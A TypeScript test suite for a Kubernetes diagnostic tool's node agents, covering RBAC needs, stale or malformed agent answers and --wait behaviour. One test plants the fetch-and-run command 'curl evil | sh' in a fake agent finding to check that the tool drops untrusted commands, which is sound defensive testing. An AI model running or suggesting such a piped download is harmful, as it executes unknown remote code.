import {createServer, type Server} from 'node:https';
import type {AddressInfo} from 'node:net';
import {afterEach, describe, expect, test} from 'vitest';
import {collectPermissions} from '../../../src/collect/access/permissions.ts';
import {agentAudience, agentRealm, agentTokenHeader} from '../../../src/collect/agents/agent-tokens.ts';
import {refuseBesideAgents} from '../../../src/cli/options/cluster-flags.ts';
import {diagnoseCluster} from '../../../src/run/diagnose-cluster.ts';
import type {ClusterRun} from '../../../src/run/cluster-run.ts';
import {openCluster} from '../../../src/run/open-cluster.ts';
import {type Permission, resourceText} from '../../../src/model/permission.ts';
import type {AgentResult} from '../../../src/model/node-result.ts';
import type {Report} from '../../../src/model/report.ts';
import {renderers} from '../../../src/render/renderers.ts';
import {roleManifest} from '../../../src/render/access/access-report.ts';
import {nodeResultText} from '../../../src/render/json.ts';
import {allowedBy} from '../../collect/access/roles.ts';
import {diagnosed} from '../../diagnosed.ts';
import {capturePath, snapshotOf} from '../../fixtures.ts';
import {type ApiServer, type ApiServerOptions, startApiServer} from '../../stand-in/api-server.ts';
import {bundleObjects} from '../../stand-in/bundle-objects.ts';
import {certificate} from '../../stand-in/certificates.ts';
import {withUsualRemedy} from '../../usual-remedies.ts';
import {someOf} from '../../cases.ts';

const healthy = 'healthy/1.36-iptables';
const faulty = 'faults/missing-endpoint';
const agentsRoles = collectPermissions(null, 'svc-trace', 'outside');
const tls = {cert: certificate('elsewhere.crt'), key: certificate('elsewhere.key')};
const closers: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});

/** What an agent says; a text or status in place of a result is said as it is. */
type Said = Partial<AgentResult> & {
  readonly now?: number;
  readonly trouble?: string;
  readonly text?: string;
  readonly status?: number;
  readonly edit?: (text: string) => string;
};

interface Given extends ApiServerOptions {
  /** A capture. */
  readonly bundle?: string;
  /** Deviating answers of agents, by node; null for no agent; a function is called each time. */
  readonly agents?: Readonly<Record<string, Said | null | (() => Said)>>;
  readonly pods?: never;
  readonly podStatus?: object;
}

interface Cluster {
  readonly server: ApiServer;
  /** Of each node what its agent would say, of what was captured of it. */
  readonly results: ReadonlyMap<string, AgentResult>;
}

const started = Date.now();
const plain = {color: false, width: 200, quiet: false, verbose: true, failOn: 'error'} as const;

async function start({bundle = healthy, agents = {}, podStatus = {phase: 'Running'}, ...options}: Given = {}): Promise<Cluster> {
  const report = diagnosed(await snapshotOf(bundle));
  const seen = {services: '1000000', endpointSlices: '1000000'};
  const times = {judgedAt: started - 5000, seconds: 0.2, intervalSeconds: 60, apiCurrentAt: started - 10_000};
  const results = new Map(
    report.nodes.map((node): [string, AgentResult] => {
      const findings = report.findings.filter(finding => finding.node === node.name);
      const proxy = {version: {text: 'v1.36.2', minor: 36, patch: 2}, gates: {}};
      return [node.name, {tool: report.tool, report: node, findings, problems: [], proxy, seen, ...times}];
    }),
  );
  const ports = new Map<string, number>();
  for (const [node, result] of results) {
    const https = createServer(tls, (request, response) => {
      if (audienceOf(request.headers[agentTokenHeader]) !== agentAudience) {
        response.writeHead(401, {'www-authenticate': `Bearer realm="${agentRealm}"`}).end('a token is needed');
        return;
      }
      const given = agents[node];
      const {
        text,
        status = 200,
        now = started,
        trouble = null,
        edit = unchanged,
        ...changes
      } = (typeof given === 'function' ? given() : given) ?? {};
      response.writeHead(status, {'content-type': 'text/plain'}).end(text ?? edit(nodeResultText({...result, ...changes}, now, trouble)));
    });
    ports.set(`agent-${node}`, await listening(https));
  }
  const objects = bundleObjects(capturePath(bundle));
  const pods = [...results.keys()].filter(node => agents[node] !== null).map(node => agentPod(node, podStatus));
  const server = await startApiServer({
    ...options,
    objects: {
      ...objects,
      serviceaccounts: [{metadata: {namespace: 'svc-trace', name: 'svc-trace-reader'}}],
      pods: [...(objects['pods'] ?? []), ...pods],
    },
    proxy: ({metadata: {name}}, asked) => (asked === '10270' ? {port: ports.get(name) ?? 0} : null),
  });
  closers.push(() => server.close());
  return {server, results};
}

/** Of a token such as the stand-in makes. */
function audienceOf(header: string | readonly string[] | undefined): string {
  const [, payload = ''] = String(header).split('.');
  return payload === '' ? '' : (JSON.parse(Buffer.from(payload, 'base64url').toString()) as {readonly aud: readonly string[]}).aud.join();
}

function unchanged(text: string): string {
  return text;
}

async function listening(server: Server): Promise<number> {
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  closers.push(() => server.close());
  return (server.address() as AddressInfo).port;
}

function agentPod(node: string, status: object, name = `agent-${node}`): object {
  return {
    metadata: {namespace: 'svc-trace', name, labels: {'app.kubernetes.io/name': 'svc-trace-agent'}},
    spec: {nodeName: node, containers: [{name: 'agent', ports: [{containerPort: 10_270}]}]},
    status,
  };
}

interface Asked {
  readonly names?: readonly string[];
  readonly flags?: object;
  readonly wait?: ClusterRun['wait'];
  readonly token?: string;
  /** Gets what the run shows while it lasts, and how long it sleeps in milliseconds. */
  readonly shown?: (string | number)[];
}

async function checkByAgents({server}: Pick<Cluster, 'server'>, {names = [], flags = {}, wait, token, shown}: Asked = {}): Promise<Report> {
  const all = {
    ...{transport: 'auto', agents: true, concurrency: 16, 'node-timeout': '10m', 'all-namespaces': true},
    ...{kubeconfig: server.kubeconfig, token, ...flags},
  };
  const cluster = openCluster(all);
  let time = started;
  const run: ClusterRun = {
    ...{flags: all, names, cluster, wait},
    clock: {
      now: () => time,
      sleep: async milliseconds => {
        time += milliseconds;
        shown?.push(milliseconds);
      },
    },
    options: {toolVersion: '0.0.0'},
    signal: new AbortController().signal,
    progress: {say: text => void shown?.push(text), note: () => {}, close: () => {}},
  };
  try {
    return await diagnoseCluster(run);
  } finally {
    cluster.api.close();
  }
}

const unreadIn = ({nodes}: Report) =>
  Object.fromEntries(nodes.flatMap(({name, status, reason}) => (status === 'unread' ? [[name, reason]] : [])));

describe('the results of agents', () => {
  test.each([healthy, faulty])('give the same report as the dumps: %s', async bundle => {
    const {server} = await start({bundle});
    const report = diagnosed(await snapshotOf(bundle));
    const read = {...report, findings: report.findings.map(finding => (finding.node === undefined ? finding : withUsualRemedy(finding)))};
    const collected = await checkByAgents({server});
    expect(JSON.parse(renderers.json(collected, plain))).toEqual(JSON.parse(renderers.json(read, plain)));
    expect(renderers.wide(collected, plain)).toBe(renderers.wide(read, plain));
    expect(collected.summary.nodesChecked).toBeGreaterThan(0);
  });

  test('are reduced to the requested Services', async () => {
    const {server} = await start({bundle: faulty});
    expect(
      (await checkByAgents({server}, {names: ['shop/web']})).findings.filter(({severity}) => severity === 'error').map(({code}) => code),
    ).toEqual(['ST202']);
    const other = await checkByAgents({server}, {flags: {'all-namespaces': false, namespace: 'default'}});
    expect(other.findings.filter(({severity}) => severity === 'error')).toEqual([]);
    expect(other.summary.verdict).toBe('ok');
  });

  test('need no pods of kube-system, no ConfigMaps and no exec', async () => {
    const {server} = await start({});
    await checkByAgents({server}, {names: ['shop/web']});
    const asked = server.requests.map(
      ({resource}) => `${resource?.verb} ${resource?.resource}/${resource?.subresource} ${resource?.namespace}`,
    );
    expect([...new Set(asked)].sort()).toEqual([
      'create serviceaccounts/token svc-trace',
      'get pods/proxy svc-trace',
      'get services/ shop',
      'list endpointslices/ shop',
      'list nodes/ ',
      'list pods/ svc-trace',
    ]);
  });

  test.each(someOf(agentsRoles.map(permission => [`${permission.verb} ${resourceText(permission)}`, permission] as const)))(
    'need each permission of docs/rbac/agents.yaml, and no other: %s',
    async (_, permission) => {
      const names = ['shop/web'];
      const flags = {'all-namespaces': false, namespace: 'shop'};
      const run = async (permissions: readonly Permission[]) => {
        const {server} = await start({allow: allowedBy(roleManifest(permissions)), tokens: {weak: {user: 'ann'}}});
        server.store.put('services', {
          metadata: {namespace: 'shop', name: 'empty'},
          spec: {clusterIP: '10.96.0.9', selector: {app: 'x'}, ports: [{port: 1}]},
        } as never);
        const reports = [await checkByAgents({server}, {names, token: 'weak'}), await checkByAgents({server}, {flags, token: 'weak'})];
        const looked = server.requests.filter(({resource}) => resource?.resource === 'pods' && resource.namespace === 'shop').length;
        return {unread: reports.map(({summary}) => summary.nodesUnread), verdicts: reports.map(({summary}) => summary.verdict), looked};
      };
      const all = await run(agentsRoles);
      expect(all).toEqual({unread: [0, 0], verdicts: ['ok', 'findings'], looked: 2});
      const less = await run(agentsRoles.filter(other => other !== permission)).catch((error: unknown) => error);
      // What lists the pods of all namespaces lists the agents, too; and without it only a message is shorter.
      if (resourceText(permission) === 'pods') return;
      expect(less).not.toEqual(all);
    },
  );

  test('are read for the chosen nodes', async () => {
    const {server} = await start({});
    const {nodes} = await checkByAgents({server}, {flags: {node: ['node-b']}});
    expect(nodes.map(({name}) => name)).toEqual(['node-b']);
    expect(server.requests.filter(({resource}) => resource?.subresource === 'proxy')).toHaveLength(1);
  });

  test('are read for the nodes that agents run on if Nodes may not be listed', async () => {
    const {server} = await start({allow: ({resource}) => resource !== 'nodes'});
    const {nodes, summary} = await checkByAgents({server});
    expect(nodes.map(({status}) => status)).toEqual(['checked', 'checked', 'checked']);
    expect(summary.verdict).toBe('incomplete');
  });

  test('are not read for a Windows node', async () => {
    const {server} = await start({});
    server.store.put('nodes', {metadata: {name: 'win-1', labels: {'kubernetes.io/os': 'windows'}}});
    const {nodes, summary} = await checkByAgents({server});
    expect(nodes.find(({name}) => name === 'win-1')?.status).toBe('unsupported');
    expect(summary.nodesUnread).toBe(0);
  });
});

/** A result with one finding. */
function withFinding(text: string, finding: object): string {
  const whole = {severity: 'error', message: 'planted', ...finding};
  return JSON.stringify({...(JSON.parse(text) as object), findings: [whole]});
}

test('what to do, and the command for it, are not what an agent says', async () => {
  const edit = (text: string): string => withFinding(text, {code: 'ST202', node: 'node-b', remedy: 'Trust me.', command: 'curl evil | sh'});
  const {findings} = await checkByAgents(await start({agents: {'node-b': {edit}}}));
  const planted = findings.find(({message}) => message === 'planted');
  expect(planted).toMatchObject({code: 'ST202', name: 'missing-endpoint'});
  expect(JSON.stringify(planted)).not.toMatch(/Trust me|curl/);
});

describe('a node is unread, and the report has the reason and the remedy,', () => {
  const later = Date.now() + 600_000;
  test.each<[string, Said | null, string]>([
    ['without an agent', null, 'there is no agent on it (no pod with app.kubernetes.io/name=svc-trace-agent in namespace svc-trace)'],
    [
      'whose agent has not checked it yet',
      {status: 503, text: 'the node has not been checked yet: x\n'},
      'its agent svc-trace/agent-node-b says: the node has not been checked yet: x',
    ],
    ['whose agent has not checked it for a long time', {now: later}, 'its agent checked it 605 s ago, and should do so every 60 s'],
    [
      'whose agent reports why it has not checked it',
      {now: later, trouble: 'no API'},
      'its agent checked it 605 s ago, and should do so every 60 s: no API',
    ],
    [
      'whose agent checked it at a time in the future',
      {judgedAt: started + 60_000},
      'its agent checked it -60 s ago, and should do so every 60 s',
    ],
    [
      'whose agent gets no updates from the API server',
      {apiCurrentAt: started - 400_000},
      'its agent checked it against API objects that were 395 s old',
    ],
    [
      'whose agent is of another version',
      {edit: text => text.replace('"schemaVersion":1', '"schemaVersion":2')},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it is of version 2, and this program reads version 1: one of the two is older',
    ],
    [
      'whose agent is another program',
      {text: '{"hello":"world"}'},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it is no result of svc-trace agent',
    ],
    ['whose agent answers with another document', {text: '<html>'}, 'the answer of its agent svc-trace/agent-node-b is no JSON'],
    [
      'whose agent sends a truncated response',
      {edit: text => text.slice(0, 200)},
      'the answer of its agent svc-trace/agent-node-b is no JSON',
    ],
    [
      'whose agent omits a field',
      {edit: text => text.replace('"judgedAt"', '"x"')},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it has no judgedAt',
    ],
    [
      'whose agent sends an invalid field',
      {edit: text => text.replace(/"findings":\[.*\],"problems"/, '"findings":[{"code":1}],"problems"')},
      'the answer of its agent svc-trace/agent-node-b cannot be used: findings[0].code is not a string',
    ],
    [
      'whose agent does not serve the path',
      {status: 404, text: 'there is: /\n'},
      expect.stringContaining('its agent svc-trace/agent-node-b gave no result: ') as unknown as string,
    ],
    [
      'whose agent accuses another node',
      {edit: text => withFinding(text, {code: 'ST202', node: 'node-a'})},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it has a finding about "node-a", and is the agent of node-b',
    ],
    [
      'whose agent could not read another node',
      {edit: text => text.replace('"problems":[]', '"problems":[{"node":"node-a","message":"x"}]')},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it has a problem about "node-a", and is the agent of node-b',
    ],
    [
      'whose agent reports what no check finds',
      {edit: text => withFinding(text, {code: 'ST299', node: 'node-b'})},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it has a finding "ST299", which this version does not know',
    ],
    [
      'whose answer is two hours old, with times that fit each other',
      {now: started - 7_200_000, judgedAt: started - 7_205_000, apiCurrentAt: started - 7_210_000},
      expect.stringMatching(/^its agent answers with a time that is \d{4} s before that of the API server$/) as unknown as string,
    ],
    [
      'whose agent says that it checks its node every thirty years',
      {intervalSeconds: 1e9, judgedAt: started - 7_205_000},
      'the answer of its agent svc-trace/agent-node-b cannot be used: it says that it checks its node less than once a day',
    ],
    [
      'whose agent answers 401, which ends no other node',
      {status: 401, text: 'no\n'},
      expect.stringContaining('its agent svc-trace/agent-node-b gave no result: ') as unknown as string,
    ],
    [
      'whose agent reports another node name',
      {edit: text => text.replace('"node":{"name":"node-b"', '"node":{"name":"node-x"')},
      'its agent says that it is node-x',
    ],
    [
      'whose agent could not read it',
      {report: {name: 'node-b', status: 'unread', reason: 'no iptables-save', families: [], rules: 0, chains: 0, settings: {}}},
      'no iptables-save',
    ],
  ])('%s', async (_, said, reason) => {
    const report = await checkByAgents(await start({agents: {'node-b': said}}));
    expect(unreadIn(report)).toEqual({'node-b': reason});
    expect(report.summary).toMatchObject({verdict: 'incomplete', nodesChecked: 2, nodesUnread: 1});
    const said901 = report.findings.find(({code, node}) => code === 'ST901' && node === 'node-b');
    if (reason !== 'no iptables-save') expect(said901?.remedy).toMatch(/^[A-Z]/);
  });

  test('whose agent is Pending', async () => {
    const report = await checkByAgents(await start({podStatus: {phase: 'Pending'}}));
    expect(unreadIn(report)).toMatchObject({'node-a': 'its agent svc-trace/agent-node-a is Pending'});
  });

  test('whose agent cannot be reached', async () => {
    const {server} = await start({agents: {'node-b': null}});
    const pod = agentPod('node-b', {phase: 'Running', podIP: '10.0.0.2'}) as {spec: {containers: [{ports: [{containerPort: number}]}]}};
    pod.spec.containers[0].ports[0].containerPort = 9;
    server.store.put('pods', pod as never);
    expect(unreadIn(await checkByAgents({server}))['node-b']).toMatch(
      /^the API server does not reach its agent svc-trace\/agent-node-b: .*connection refused/,
    );
  });

  test('whose agent does not answer in time', async () => {
    const {server} = await start({faults: [{kind: 'hang', match: /agent-node-b/}]});
    const report = await checkByAgents({server}, {flags: {'node-timeout': '1s'}});
    expect(unreadIn(report)).toEqual({'node-b': 'its agent svc-trace/agent-node-b did not answer: no answer within 1 s'});
  });

  test.each([
    ['get pods/proxy', ({subresource}: {subresource: string}) => subresource !== 'proxy', /pods\/proxy/],
    [
      'list the agents',
      ({namespace}: {namespace: string}) => namespace !== 'svc-trace',
      /the agents could not be listed: not allowed to list pods in namespace svc-trace/,
    ],
  ])('without permission to %s', async (_, allow, reason) => {
    const report = await checkByAgents(await start({allow}));
    expect(Object.values(unreadIn(report))).toEqual([
      expect.stringMatching(reason),
      expect.stringMatching(reason),
      expect.stringMatching(reason),
    ]);
    expect(report.findings.some(({remedy}) => remedy.includes('svc-trace access --agents'))).toBe(true);
  });
});

describe('if results are older than the requested Services', () => {
  const before = {services: '1', endpointSlices: '1000000'};

  test('no node is checked, however recent the result is', async () => {
    const report = await checkByAgents(await start({agents: {'node-b': {seen: before}}}));
    expect(unreadIn(report)['node-b']).toMatch(/^its agent checked it 5 s ago, before \S+\/\S+ changed$/);
    expect(report.summary.verdict).toBe('incomplete');
  });

  test('a change of a Service that was not requested does not matter', async () => {
    const {server} = await start({});
    const newest = server.store.all('services').find(({metadata}) => metadata.name === 'web');
    server.store.put('services', {metadata: {namespace: 'other', name: 'new'}, spec: {clusterIP: 'None'}});
    const seen = {services: newest?.metadata.resourceVersion ?? '', endpointSlices: '1000000'};
    const {server: again} = await start({agents: {'node-b': {seen}}});
    expect(unreadIn(await checkByAgents({server: again}, {names: ['shop/web']}))).toEqual({});
  });

  test('the next check of the agent is waited for', async () => {
    let asked = 0;
    const shown: (string | number)[] = [];
    const report = await checkByAgents(await start({agents: {'node-b': () => (++asked < 4 ? {seen: before} : {})}}), {shown});
    expect(unreadIn(report)).toEqual({});
    expect(asked).toBe(4);
    const second = ['waiting for the agent of node-b to check against the current Services', 1000, 'agents: 1 of 1 asked'];
    expect(shown.slice(shown.indexOf(second[0] ?? ''))).toEqual([...second, ...second, ...second]);
  });

  test('resourceVersions that are not numbers count as seen only if they are equal', async () => {
    const report = await checkByAgents(await start({agents: {'node-b': {seen: {services: 'abc', endpointSlices: 'abc'}}}}));
    expect(Object.keys(unreadIn(report))).toEqual(['node-b']);
  });

  const lagging =
    (seconds: number, judgedAt: number) =>
    (found: AgentResult): Said => ({
      ...{judgedAt, now: judgedAt + 1000},
      report: {...found.report, lag: {seconds, service: 'shop/web', changedServices: 1}},
    });

  /** A cluster whose agent on node-b answers this, of what it would say by itself; the last answer again and again. */
  async function startLagging(...answers: readonly ReturnType<typeof lagging>[]) {
    let asked = 0;
    let own: AgentResult | undefined;
    const answer = (): Said => (own === undefined ? {} : (answers[Math.min(asked++, answers.length - 1)]?.(own) ?? {}));
    const cluster = await start({agents: {'node-b': answer}});
    own = cluster.results.get('node-b');
    return {cluster, count: () => asked};
  }

  test('--wait waits for a node with an older state of a Service than at the start of the run', async () => {
    // 5 s behind before the run began, 5 s behind 3 s later, and 2 s behind 10 s later: a state of after that.
    const {cluster, count} = await startLagging(lagging(5, started - 1000), lagging(5, started + 3000), lagging(2, started + 10_000));
    const report = await checkByAgents(cluster, {wait: {milliseconds: 60_000, failOn: 'error'}});
    expect(report.wait).toMatchObject({clean: true});
    expect(count()).toBe(3);
    expect(unreadIn(report)).toEqual({});
  });

  test('--wait ends at its timeout with a node that does not follow, and reports how far it lags', async () => {
    const {cluster} = await startLagging(lagging(100, started + 1000));
    const report = await checkByAgents(cluster, {wait: {milliseconds: 8000, failOn: 'error'}});
    expect(report.wait).toMatchObject({clean: false});
    expect(unreadIn(report)).toEqual({'node-b': 'by its agent, its rules for shop/web are 100 s behind the API'});
  });

  test('without --wait a node that lags is checked', async () => {
    const {cluster} = await startLagging(lagging(5, started - 1000));
    expect(unreadIn(await checkByAgents(cluster))).toEqual({});
  });

  test('--wait checks again, and finds new agents', async () => {
    const {server, results} = await start({agents: {'node-b': null}});
    expect(results.has('node-b')).toBe(true);
    const report = await checkByAgents({server}, {wait: {milliseconds: 30_000, failOn: 'error'}});
    expect(report.wait).toMatchObject({clean: false});
    expect(unreadIn(report)['node-b']).toContain('there is no agent on it');
  });
});

describe('flags for reading nodes', () => {
  test.each([{from: 'x'}, {transport: 'ssh'}, {'cluster-cidr': '10.0.0.0/8'}, {sudo: true}, {'masquerade-all': false}])(
    'are wrong use beside --agents: %o',
    flags => {
      const all = {transport: 'auto', ...flags};
      expect(() => refuseBesideAgents({agents: true, ...all})).toThrow(`--${Object.keys(flags)[0]} has no effect with --agents`);
      expect(() => refuseBesideAgents(all)).not.toThrow();
    },
  );
});
